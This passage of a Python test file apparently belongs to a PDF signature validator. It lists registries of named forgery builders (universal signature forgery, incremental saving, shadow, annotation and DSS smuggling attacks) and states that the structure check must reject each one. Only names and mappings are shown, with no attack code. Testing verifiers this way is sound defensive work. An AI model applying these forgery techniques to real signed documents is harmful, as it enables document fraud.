    "in-place-zeroed": usf_in_place_zeroed,
    "in-place-empty": usf_in_place_empty,
}
"""Universal signature forgery: the signature dictionary broken in each published way."""


# --- the registries the tests run ---------------------------------------------------------------

POST_SIGNATURE: dict[str, Builder] = {
    "duplicate-xref-quantity": duplicate_xref_quantity,
    "duplicate-xref-page": duplicate_xref_page,
    "duplicate-xref-attachment": duplicate_xref_attachment,
    "duplicate-xref-stream": duplicate_xref_stream_quantity,
    "overlapping-subsections": overlapping_subsections,
    "xref-stream-overlapping-index": xref_stream_overlapping_index,
    "object-stream-redefinition": object_stream_redefinition,
    "freed-content": freed_content,
    "hybrid-xrefstm": hybrid_xrefstm,
    "hidden-objects": hidden_objects,
    "isa-visible": isa_visible,
    "shadow-overlay-xobject": shadow_overlay_xobject,
    "shadow-overlay-annotation": shadow_overlay_annotation,
    "shadow-form-value": shadow_form_value,
    "shadow-font-swap": shadow_font_swap,
    "shadow-second-page-tree": shadow_second_page_tree,
    "eaa-freetext": eaa_freetext,
    "eaa-stamp": eaa_stamp,
    "ssa-signature-field": ssa_signature_field,
    "catalog-open-action": catalog_open_action,
    "dss-smuggled-stream": dss_smuggled_stream,
    "dss-certificate-with-payload": dss_certificate_with_payload,
    "info-title": info_title,
    "xmp-title": xmp_title,
    "info-producer": info_producer,
    "xmp-title-behind-a-date": xmp_title_behind_a_date,
    "xmp-producer": xmp_producer,
    "xmp-utf16-entity": xmp_utf16_entity,
}
"""Forgeries that add or change something after the signed revision in a complete revision:
the structure check must fail them as "changed after signing"."""

HIDDEN_REVISION: dict[str, Builder] = {
    "isa-objects-only": isa_objects_only,
    "isa-no-trailer": isa_no_trailer,
    "isa-startxref-to-previous": isa_startxref_to_previous,
    "xref-stream-odd-index": xref_stream_odd_index,
    "prev-elsewhere": prev_elsewhere,
    "prev-bogus": prev_bogus,
}
"""Forgeries whose update is hidden, malformed or misplaced (no xref, no trailer, an odd
``/Index``, a ``/Prev`` elsewhere): invalid, with the structure check failed, in whatever words."""
